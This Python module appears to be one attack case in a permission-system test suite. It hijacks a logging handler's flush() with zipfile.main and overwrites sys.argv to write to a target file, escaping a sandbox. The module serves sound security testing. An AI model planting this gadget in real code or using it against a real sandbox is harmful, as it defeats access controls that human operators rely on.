"""A main program of the library's is a stream's flush()."""
CATEGORY = "callable"
REACH = "write"
BEYOND = """A function of the standard library that takes what it is to do from
sys.argv needs no arguments, and an object's attribute is anybody's to set.  The
application calls flush() there, and a main() like any function of the library
does what its caller may.  List __main__ in $permissions to restrict it."""

import logging
import sys
import zipfile

from . import payload


class Stream:
    flush = None


def attack(handler):
    sys.argv[:] = ["zipfile", "-c", payload.TARGET, sys.executable + "/none"]
    handler.stream = Stream()
    handler.stream.flush = zipfile.main
